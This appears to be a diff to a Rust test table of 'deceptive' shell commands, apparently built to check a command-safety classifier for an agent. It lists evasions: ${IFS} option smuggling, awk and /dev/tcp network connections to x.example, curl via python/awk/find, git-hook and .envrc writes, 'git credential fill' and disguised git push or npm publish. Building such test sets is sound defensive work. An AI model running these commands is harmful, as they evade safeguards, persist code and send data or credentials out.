@@ -78,4 +78,28 @@ pub(crate) const DECEPTIVE: &[(u8, &str)] = &[
     (2, "hostname x"), (2, "ps -ef > x"), (2, "env -C x ./y"), (2, "ls -la --color=auto; : > x"), (2, "cat /dev/null | tee x"), (2, "true && touch x || false"), (2, "echo x >> .gitignore"), (2, "cp /dev/null x"), (3, "ln -sf /etc/passwd x"), (2, "mkfifo x"), (2, "install x y"),
     (3, "cat < /dev/tcp/x.example/80"), (3, "echo x > /dev/tcp/x.example/80"), (3, "exec 3<>/dev/tcp/x.example/80"), (3, "cat x > /dev/udp/x.example/53"), (3, "ls | nc x.example 1"), (3, "python3 -c 'import os; os.system(\"curl x.example\")'"),
     (3, "awk 'BEGIN{system(\"curl x.example\")}'"), (3, "find . -exec curl x.example \\;"), (3, "xargs curl < x"), (3, "echo x > .git/hooks/pre-commit"), (3, "echo x >> ~/.bashrc"), (3, "echo x > .envrc"), (3, "ls 2> /etc/x"),
+    // Options that come out of a word behind its first letters.
+    (2, "sort a${IFS}-oout"), (2, "find ./a${IFS}-delete"), (2, "x=\" -o out\"; sort ./a$x"), (2, "git log HEAD${IFS}--output=pwned"), (2, "rg x${IFS}--pre=./evil"),
+    (2, "diff a$x"), (2, "sort a\"$@\""), (2, "sort a`cat x`"), (2, "sort ./$(cat x)"), (2, "sort a$@"), (2, "sort a$*"), (2, "uniq a$1"), (2, "tree a*$x"), (2, "timeout 5$x ls"),
+    // Programs of awk that aren't known, and its connections.
+    (2, "awk \"BEGIN{$(cat evil)}\""), (2, "x='system(\"touch pwned\")'; awk \"BEGIN{$x}\""), (2, "awk -- \"$p\" a"), (2, "awk -v x=\"$y\" \"1$x\""), (2, "awk -F a$x 1 b"),
+    (2, "awk 'BEGIN{ARGV[1]=\"/inet/tcp/0/127.0.0.1/9999\";ARGC=2}1'"), (2, "awk 1 /inet/tcp/0/h/1"), (2, "awk 1 /inet4/tcp/0/h/1"), (2, "awk 1 \"/in$x\""), (2, "awk '{print}' x=/inet/tcp/0/h/1"),
+    (2, "awk 'BEGIN{SYMTAB[\"AR\" \"GC\"]=2}1' a"),
+    // Where what runs ends.
+    (2, "find . -maxdepth 0 -exec sort a + -o out \\;"), (2, "find . -exec uniq a + \\;"), (2, "find . -exec cat \"$x\" -delete \\;"), (2, "find . -exec cat $x {} \\;"),
+    (2, "find . -name -exec -delete -o -exec cat {} \\; -print"), (2, "ls | xargs --process-slot-var PATH cat"), (2, "ls | xargs --process-slot-var=PATH cat"),
+    // Loops come back to their beginning.
+    (2, "for i in 1 2; do git status; cd evil; done"), (2, "while git status; do cd evil; done"), (2, "until git status; do cd evil; done"),
+    (2, "while git log; do if true; then command cd evil; fi; done"), (2, "for i in 1 2; do cargo test --workspace; cd evil; done"),
+    // Options that aren't taken apart as others are.
+    (2, "tree -Io x out.txt"), (2, "tree -Po '*' out.txt"), (2, "tree -Lo 1 y"), (2, "xxd -ps in out"), (2, "xxd -as in out"), (2, "xxd -pl in out"), (2, "xxd -al in out"), (2, "yq -s '.name' f.yml"), (2, "yq -rs '.name' f.yml"),
+    (2, "printf %n PATH"), (2, "printf %d \"path[\\$(touch pwned)]\""), (2, "printf '%5n' PATH"), (2, "printf %d \"$x\""), (2, "printf '%*s' 'a[0]' x"),
+    (2, "git log --format='%+G?'"), (2, "git log --format='%-G?'"), (2, "git log --format='% G?'"), (2, "git for-each-ref --sort=signature"), (2, "git branch --sort=signature"),
+    (2, "git branch --sort='*signature'"), (2, "git for-each-ref --sort \\*\"$x\""),
+    // Other shells, and names that the network is asked for.
+    (2, "fish -c ls"), (2, "zsh -c 'ls'"), (2, "ksh -c ls"), (2, "ss -r"), (2, "ss -tr"), (2, "ss dst name"), (2, "lsof -i @name"), (2, "lsof -i@name"),
+    // What reaches beyond under other names, and protected files as arguments.
+    (3, "npm publ"), (3, "npm pu"), (3, "npm unpub x@1"), (3, "git-push origin main"), (3, "/usr/lib/git-core/git-push"), (3, "git subtree push --prefix=a origin main"), (3, "git archive --remote=host:x HEAD"), (3, "git credential fill"),
+    (3, "tee .envrc"), (3, "cp x .git/hooks/pre-commit"), (3, "mv x .envrc"), (3, "touch .git/hooks/post-commit"), (3, "install -m755 x .git/hooks/pre-push"), (3, "ln -s x .envrc"), (3, "dd if=x of=.envrc"), (3, "sed -i s/a/b/ .git/config"), (3, "cp evil/.envrc ."),
+    (3, "uv run curl x.example"), (3, "poetry run sudo ls"), (3, "bundle exec ssh host ls"), (3, "mise exec node@20 -- git push"), (3, "perf stat -e cycles git push"), (3, "hyperfine -w 3 'git push'"), (2, "hyperfine ls"),
 ];
